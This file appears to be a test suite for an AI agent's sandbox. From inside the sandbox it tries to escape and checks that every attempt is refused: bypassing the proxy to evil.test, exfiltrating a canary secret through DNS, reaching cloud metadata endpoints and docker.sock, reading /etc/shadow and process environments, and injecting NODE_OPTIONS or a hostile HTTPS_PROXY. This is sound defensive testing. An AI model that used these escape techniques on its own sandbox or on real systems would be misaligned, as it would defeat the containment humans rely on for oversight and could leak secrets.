import { readFile, stat } from 'node:fs/promises';
import { join } from 'node:path';

import { beforeAll, describe, expect, inject, test } from 'vitest';

import { run } from '../packages/core/src/node/index.ts';
import type { Attempt } from './support/bottle/escape-case.ts';
import { ESCAPE_BACKENDS } from './support/bottle/escape-backends.ts';
import { escapeStage } from './support/bottle/escape-stage.ts';
import type { Escape } from './support/bottle/escape.ts';
import {
  ABSTRACT_SOCKET,
  ALLOWED,
  FORBIDDEN,
  FORBIDDEN_PORTS,
  FORBIDDEN_V6,
  GATEWAY,
  HOST_PORT,
  LOOPBACK_PORT,
  METADATA,
  OPERATOR_SOCKET,
  PRIVATE,
  PUBLIC_RESOLVER,
} from './support/bottle/internet.ts';

const get = (host: string, ...more: readonly string[]) =>
  [`GET / HTTP/1.1`, `Host: ${host}`, ...more, '', ''].join('\r\n');
const connect = (target: string, more: Partial<Attempt> = {}): Attempt => ({ do: 'connect', target, ...more });
const tcp = (address: string, port: number, send = get('allowed.test')): Attempt => ({
  do: 'tcp',
  address,
  port,
  send,
});
const direct = (url: string): Attempt => ({ do: 'get', url, proxied: false });
const proxied = (url: string): Attempt => ({ do: 'get', url });

/**
 * The checks E1 to E3, E5, E12 to E16, E22 and E30 that an agent's sandbox must pass, from within a bottle, as its user and as its root. Every attempt must be refused
 * promptly and visibly, be in the audit by a rule and without the secret, and bring nothing to a listener that counts; and what is allowed must
 * work in the same bottle. Its groups are [backend:native] and [backend:docker].
 */
describe.each(ESCAPE_BACKENDS)('[backend:%s] a bottle keeps in', (backend, usable) => {
  describe.skipIf(!usable)('what is not allowed', () => {
    const stage = escapeStage(backend);
    const { canary } = stage;
    let escape: Escape;
    let other: Escape;
    beforeAll(async () => {
      escape = await stage.open('escape');
      other = await stage.open('escape');
    });

    test('what the attempts are made of reaches what is allowed', async () => {
      const send = get('allowed.test');
      await escape.works([
        connect('allowed.test:443', { name: 'allowed.test', send }),
        connect('allowed.test:80', { plain: true, send }),
        { do: 'proxy', send: send.replace('/', 'http://allowed.test/') },
        tcp(ALLOWED, 80),
        { do: 'tls', address: ALLOWED, port: 443, name: 'allowed.test', trust: true, send },
        proxied('http://allowed.test/'),
        direct('https://allowed.test/'),
      ]);
      const asks: Attempt[] = [
        { do: 'dns', name: 'allowed.test', server: PUBLIC_RESOLVER },
        { do: 'dns', name: 'allowed.test', server: PUBLIC_RESOLVER, stream: true },
        { do: 'dns', name: 'allowed.test', kind: 'AAAA' },
        { do: 'resolve', name: 'allowed.test' },
        { do: 'leaf', address: ALLOWED, port: 443, name: 'allowed.test' },
        { do: 'read', path: '/etc/passwd' },
      ];
      const one = { rcode: 0, answers: 1 };
      expect(await escape.attack(asks)).toMatchObject([
        ...[one, one, one],
        { addresses: expect.arrayContaining([ALLOWED]) },
        { names: [['DNS', 'allowed.test']] },
        { received: expect.stringContaining('root:') },
      ]);
    });

    test('E1: clients that pass the proxy by', async () => {
      const secret = `https://${FORBIDDEN}/?${canary}`;
      await escape.refuses(
        [
          direct(secret),
          direct(`http://${FORBIDDEN}/?${canary}`),
          direct('https://evil.test/'),
          direct(`http://[${FORBIDDEN_V6}]/`),
        ],
        ['unknown-address', 'no-route', 'no-server-name'],
      );
      await escape.refuses(
        [
          tcp(FORBIDDEN, 80),
          tcp(FORBIDDEN_V6, 80),
          {
            do: 'tls',
            address: FORBIDDEN,
            port: 443,
            name: 'allowed.test',
            trust: false,
            send: get('allowed.test', `X: ${canary}`),
          },
          { do: 'tls', address: ALLOWED, port: 443, name: 'evil.test', trust: false, send: get('evil.test') },
        ],
        ['unknown-address', 'no-route'],
      );
      await escape.works([direct('https://allowed.test/'), direct('http://allowed.test/')]);
    });

    test('E2: other ports of an allowed host', async () => {
      await escape.refuses(
        [22, 25, 853, 5432, 6667, 8443, 31_337].map((port) => tcp(ALLOWED, port, canary)),
        [],
        ['closed-port'],
      );
      await escape.refuses(
        [22, 25, 8443].map((port) => connect(`allowed.test:${port}`)),
        ['no-route'],
      );
    });

    test('E3: UDP, and DNS in its other clothes', async () => {
      await escape.refuses(
        [
          ...[443, 123, 853, 5353, 33_434].flatMap((port) => [
            { do: 'udp', address: FORBIDDEN, port, send: canary },
            { do: 'udp', address: ALLOWED, port, send: canary },
          ]),
          { do: 'udp', address: PUBLIC_RESOLVER, port: 784, send: canary },
          tcp(PUBLIC_RESOLVER, 853, canary),
        ],
        [],
        ['closed-port'],
      );
      await escape.refuses(
        [
          { do: 'dns', name: 'evil.test', server: PUBLIC_RESOLVER },
          { do: 'dns', name: 'evil.test', server: PUBLIC_RESOLVER, stream: true },
          { do: 'dns', name: 'evil.test', server: FORBIDDEN_V6 },
          { do: 'dns', name: 'evil.test', kind: 'AAAA' },
          { do: 'resolve', name: 'evil.test' },
          proxied(`https://${PUBLIC_RESOLVER}/dns-query?name=${canary}`),
          direct(`https://${PUBLIC_RESOLVER}/dns-query?name=${canary}`),
          proxied(`https://dns.evil.test/dns-query?name=${canary}`),
          direct(`https://dns.evil.test/dns-query?name=${canary}`),
          tcp(PUBLIC_RESOLVER, 443, canary),
          tcp(FORBIDDEN, 80, canary),
          tcp(FORBIDDEN, 443, ''),
          tcp(FORBIDDEN, 443, '\x16\x03\x01\x02\x00\x01'),
          tcp(FORBIDDEN, 80, 'GET / HTTP/1.1\r\nHost: allowed.test\r\n'),
        ],
        ['no-route', 'unknown-address', 'no-server-name', 'bad-request', 'plain-http'],
      );
      // Whoever does not finish the question is cut off within a second; a busy machine may be late at times.
      const unfinished = [
        tcp(FORBIDDEN, 443, ''),
        tcp(FORBIDDEN, 443, '\x16\x03\x01\x02\x00\x01'),
        tcp(FORBIDDEN, 80, 'GET / HTTP/1.1\r\nHost: allowed.test\r\n'),
      ];
      const latest = async () => Math.max(...(await escape.attack(unfinished)).map(({ ms }) => ms));
      await expect.poll(latest, { timeout: 60_000 }).toBeLessThan(1000);
      await escape.asked(/evil|public/, 0);
    });

    test('E5: IPv6 is judged as IPv4', async () => {
      const literals = [
        '[::1]',
        '[::]',
        '[fe80::1]',
        '[::ffff:127.0.0.1]',
        '[::ffff:7f00:1]',
        '[64:ff9b::7f00:1]',
        '[2002:7f00:1::]',
        '[fd12::1]',
        '[ff02::1]',
        '[::ffff:169.254.169.254]',
      ];
      await escape.refuses(
        literals.map((literal) => connect(`${literal}:443`)),
        ['special-address', 'private-address', 'metadata', 'no-route'],
      );
      await escape.refuses(
        [connect('[fe80::1%25lo]:443'), connect('[::1%lo]:443'), connect('::1:443')],
        ['bad-host', 'bad-authority'],
      );
      await escape.refuses(
        ['ula.test', 'mapped.test', 'nat64.test', 'mixed6.test'].map((name) => connect(`${name}:443`)),
        ['private-address', 'special-address'],
      );
      await escape.refuses(
        [FORBIDDEN_V6, 'fd12::1', '64:ff9b::7f00:1'].map((address) => tcp(address, 80)),
        ['unknown-address', 'special-address', 'private-address'],
      );
      await escape.refuses(
        [
          { do: 'scoped', address: 'fe80::1', port: 80, send: get('allowed.test') },
          tcp('::ffff:127.0.0.1', 80),
          tcp('0.0.0.0', 80),
          tcp('::', 80),
        ],
        ['special-address'],
      );
      await escape.refuses(
        [tcp(FORBIDDEN_V6, 22), tcp('::1', LOOPBACK_PORT), { do: 'udp', address: FORBIDDEN_V6, port: 443 }],
        [],
        ['closed-port'],
      );
      await escape.works([direct('https://six.wild.test/'), proxied('https://six.wild.test/')]);
    });

    test('E12: names that change their minds', async () => {
      await escape.refuses(
        ['loopback.test', 'mixed.test', 'mixed6.test', 'chain.test', 'private.test'].map((name) =>
          connect(`${name}:443`),
        ),
        ['special-address', 'private-address'],
      );
      await escape.refuses(
        [{ do: 'dns', name: 'loopback.test' }, { do: 'dns', name: 'mixed.test' }, direct('https://mixed.test/')],
        ['special-address'],
      );
      // Pinned: the second answer would be the loopback address, and nobody asks for it.
      for (const name of ['rebind-1.wild.test', 'rebind-2.wild.test']) {
        const [again, caught] = [proxied(`https://${name}/`), direct(`https://${name}/`)];
        await escape.works([again, again, caught]);
        expect((await stage.world.sightings()).names.filter((asked) => asked === name)).toHaveLength(2);
      }
      await escape.nothingCameOut();
    });

    test('E13: metadata services', async () => {
      await escape.refuses(
        METADATA.map((address) => connect(`${address.includes(':') ? `[${address}]` : address}:80`)),
        ['metadata'],
      );
      await escape.refuses(
        METADATA.map((address) => tcp(address, 80, get('169.254.169.254'))),
        ['metadata'],
      );
      await escape.refuses(
        METADATA.map((address) => tcp(address, 80, get('allowed.test', `X: ${canary}`))),
        ['metadata'],
      );
      await escape.refuses(
        [
          proxied('http://169.254.169.254/latest/'),
          proxied('http://metadata.google.internal/'),
          connect('meta.test:80'),
          connect('meta6.test:443'),
          direct('http://metadata.google.internal/'),
        ],
        ['metadata'],
      );
    });

    test('E14: services of the host', async () => {
      await escape.refuses(
        [
          tcp('127.0.0.1', LOOPBACK_PORT),
          tcp('127.0.0.1', HOST_PORT),
          tcp(GATEWAY, HOST_PORT),
          tcp(ALLOWED, HOST_PORT),
          tcp('::1', HOST_PORT),
          { do: 'udp', address: GATEWAY, port: HOST_PORT, send: canary },
        ],
        [],
        ['closed-port'],
      );
      await escape.refuses(
        [
          connect(`${GATEWAY}:${HOST_PORT}`),
          connect(`host.docker.internal:443`),
          connect(`${PRIVATE}:443`),
          connect('private.test:80'),
        ],
        ['no-route', 'private-address'],
      );
      const sockets = [
        '/run/docker.sock',
        '/var/run/docker.sock',
        '/run/dbus/system_bus_socket',
        '/run/systemd/private',
        '/tmp/.X11-unix/X0',
        '/run/containerd/containerd.sock',
      ];
      await escape.refuses(
        [
          ...sockets.map((path) => ({ do: 'unix', path })),
          { do: 'unix', path: ABSTRACT_SOCKET, abstract: true },
          { do: 'unix', path: '/tmp/.X11-unix/X0', abstract: true },
          { do: 'unix', path: join(stage.folder, OPERATOR_SOCKET) },
          { do: 'unix', path: join(escape.opened.state, 'control.sock') },
        ],
        [],
        [],
      );
      const [found] = await escape.attack([{ do: 'environment' }]);
      for (const name of ['SSH_AUTH_SOCK', 'DBUS_SESSION_BUS_ADDRESS', 'DISPLAY', 'DOCKER_HOST', 'ESCAPE_CANARY'])
        expect(found?.['environment']).not.toHaveProperty(name);
    });

    test('E15: another bottle', async () => {
      expect(await other.attack([{ do: 'serve', port: 5555, name: 'decant-escape-other' }])).toMatchObject([
        { left: true },
      ]);
      const own = [tcp('127.0.0.1', 5555, ''), { do: 'unix', path: 'decant-escape-other', abstract: true }];
      for (const { received } of await other.attack(own)) expect(received).toBe('REACHED');
      for (const path of [other.opened.state, `${other.opened.state}.jsonl`]) await stat(path);
      await escape.refuses(
        [
          tcp('127.0.0.1', 5555, ''),
          { do: 'unix', path: 'decant-escape-other', abstract: true },
          { do: 'read', path: other.opened.state },
          { do: 'read', path: `${other.opened.state}.jsonl` },
          { do: 'unix', path: join(other.opened.state, 'control.sock') },
        ],
        [],
        [],
      );
      const [processes] = await escape.attack([{ do: 'processes' }]);
      expect(processes?.['count']).toBeLessThan(8);
      for (const pid of other.opened.processIds)
        await escape.refuses(
          [
            { do: 'read', path: `/proc/${pid}/environ` },
            { do: 'kill', process: pid, number: 15 },
          ],
          [],
          [],
        );
      await other.works([proxied('https://allowed.test/')]);
    });

    test('E16: secrets of the operator', async () => {
      // The agent's own token holds the canary: in its environment, and nowhere else.
      for (const user of ['root', 'agent']) {
        const [found] = await escape.attack([{ do: 'find', needles: [canary] }], user);
        expect(found?.['looked']).toBeGreaterThan(500);
        const places = found?.['found'] as string[];
        expect(places).not.toEqual([]);
        const outside = places.filter(
          (path) => !/^\/proc\/(?:\d+|self|thread-self)\/(?:task\/\d+\/)?environ$/.test(path),
        );
        expect(outside).toEqual([]);
      }
      await escape.refuses(
        [
          { do: 'read', path: '/proc/1/root/etc/shadow' },
          { do: 'read', path: '/proc/kcore' },
          { do: 'read', path: '/etc/shadow' },
        ],
        [],
        [],
      );
      for (const pid of escape.opened.processIds) {
        for (const file of ['cmdline', 'environ'])
          expect(await readFile(`/proc/${pid}/${file}`, 'latin1'), `${file} of ${pid}`).not.toContain(canary);
      }
    });

    test('E16: what is kept and shown of a bottle on the host', async () => {
      // One process has it in its command line on purpose; no other may.
      const { stdout } = await run('ps', ['-eo', 'args', '--no-headers'], { timeoutMs: 10_000 });
      const shown = stdout
        .toString('utf8')
        .split('\n')
        .filter((line) => line.includes(canary));
      expect(shown.map((line) => line.slice(0, 12))).toEqual(['sh -c sleep ']);
      const kept = await run('grep', ['-rlI', canary, stage.directory], { okCodes: [0, 1], timeoutMs: 10_000 });
      expect(kept.stdout.toString('utf8')).toBe('');
      if (backend === 'docker') {
        const env = { ...process.env, DOCKER_HOST: inject('dockerHost')! };
        const list = await run('docker', ['ps', '-aq', '--filter', 'label=dev.decant.bottle'], {
          env,
          timeoutMs: 10_000,
        });
        const ids = list.stdout.toString('utf8').split('\n').filter(Boolean);
        expect(ids.length).toBeGreaterThan(1);
        const told = await run('docker', ['inspect', ...ids], { env, timeoutMs: 10_000 });
        expect(told.stdout.toString('utf8')).not.toContain(canary);
      }
    });

    test('E16: nothing is open that was not given, and no memory is written to a disk', async () => {
      for (const user of ['root', 'agent']) {
        const [open, crashed] = await escape.attack([{ do: 'descriptors' }, { do: 'crash' }], user);
        const own = Object.entries((open?.['descriptors'] ?? {}) as Record<string, string>);
        expect(new Set(own.map(([name]) => name.split('/')[1]))).toEqual(new Set(['0', '1', '2']));
        for (const [, target] of own) expect(target).toMatch(/^pipe:/);
        expect(crashed).toMatchObject({ signal: 11, dumped: false, limit: 0 });
      }
      for (const pid of escape.opened.processIds)
        expect(await readFile(`/proc/${pid}/limits`, 'latin1')).toMatch(/^Max core file size\s+[01]\s+[01]\s/m);
    });

    test('E22: the authority of the bottle', async () => {
      for (const user of ['root', 'agent']) {
        const [keys] = await escape.attack(
          [
            {
              do: 'find',
              needles: ['BEGIN PRIVATE KEY', 'BEGIN EC PRIVATE KEY'],
              roots: ['/etc', '/run', '/tmp', '/home', '/root', '/var'],
            },
          ],
          user,
        );
        expect(keys?.['found']).toEqual([]);
      }
      const [own, others] = await Promise.all(
        [escape, other].map(
          async (one) => (await one.attack([{ do: 'read', path: '/etc/decant/ca.pem' }]))[0]?.received,
        ),
      );
      expect(own).toContain('BEGIN CERTIFICATE');
      expect(others).toContain('BEGIN CERTIFICATE');
      expect(own).not.toBe(others);
      // One bottle does not believe another one's authority.
      await other.attack([{ do: 'write', path: '/tmp/other.pem', data: own ?? '' }]);
      const [result] = await other.attack([proxied('https://allowed.test/')], 'agent', {
        SSL_CERT_FILE: '/tmp/other.pem',
      });
      expect(result?.detail).toContain('CERTIFICATE_VERIFY_FAILED');
      // What it signs is for the one name that was asked for, or the address, and never for more.
      const leaf = (name?: string) => ({
        do: 'leaf',
        address: FORBIDDEN,
        port: 443,
        ...(name === undefined ? {} : { name }),
      });
      const leaves = [leaf('evil.test'), leaf(), leaf('*.wild.test')];
      let [named, bare, wild] = await escape.attack(leaves);
      // Who is refused and too slow to begin TLS is reset, and may try again.
      const isReset = () => [named, bare, wild].some((one) => one?.error === 'ECONNRESET');
      for (let again = 0; again < 20 && isReset(); again++) [named, bare, wild] = await escape.attack(leaves);
      expect(named?.['names']).toEqual([['DNS', 'evil.test']]);
      expect(bare?.['names']).toEqual([['IP Address', FORBIDDEN]]);
      expect(wild).toMatchObject({ error: 'TLS', detail: expect.stringMatching(/alert/i) });
      // And it is no more when its bottle is.
      const first = await stage.open('reused');
      const read = { do: 'read', path: '/etc/decant/ca.pem' };
      const [before] = await first.attack([read]);
      await stage.world.stop(first.opened.slug);
      const second = await stage.open('reused');
      expect(second.opened.slug).toBe(first.opened.slug);
      const [after] = await second.attack([read]);
      expect(after?.received).not.toBe(before?.received);
      await stage.world.stop(second.opened.slug);
    });

    test('E30: nothing from within reaches the sidecar', async () => {
      const env = {
        NODE_OPTIONS: '--require=/tmp/own.js',
        SSL_CERT_FILE: '/nowhere',
        NODE_EXTRA_CA_CERTS: '/nowhere',
        HTTPS_PROXY: 'http://evil.test',
      };
      await escape.attack(
        [{ do: 'write', path: '/tmp/own.js', data: `require('fs').writeFileSync('/tmp/owned','')` }],
        'root',
        env,
      );
      for (const pid of escape.opened.processIds) {
        const environ = await readFile(`/proc/${pid}/environ`, 'latin1');
        expect(environ).not.toMatch(/NODE_OPTIONS=-|own\.js|nowhere|evil/);
      }
      const [sidecar = 0] = escape.opened.processIds;
      const words = (await readFile(`/proc/${sidecar}/environ`, 'latin1')).split('\0').filter(Boolean);
      expect(words.filter((word) => !word.startsWith('NODE_CHANNEL_'))).toEqual([]);
      // What it runs is root's and nobody else's to write.
      const argv = (await readFile(`/proc/${sidecar}/cmdline`, 'latin1')).split('\0');
      const programs = argv.filter((word) => word.startsWith('/'));
      expect(programs).toHaveLength(2);
      for (const path of programs) expect((await stat(path)).mode & 0o022, path).toBe(0);
      await escape.works([proxied('https://allowed.test/')]);
    });

    test('in all of this nothing reached a listener that counts', async () => {
      await escape.nothingCameOut();
      const { forbidden } = await stage.world.sightings();
      expect(Object.keys(forbidden).length).toBeGreaterThan(FORBIDDEN_PORTS.length * 8);
    });
  });
});
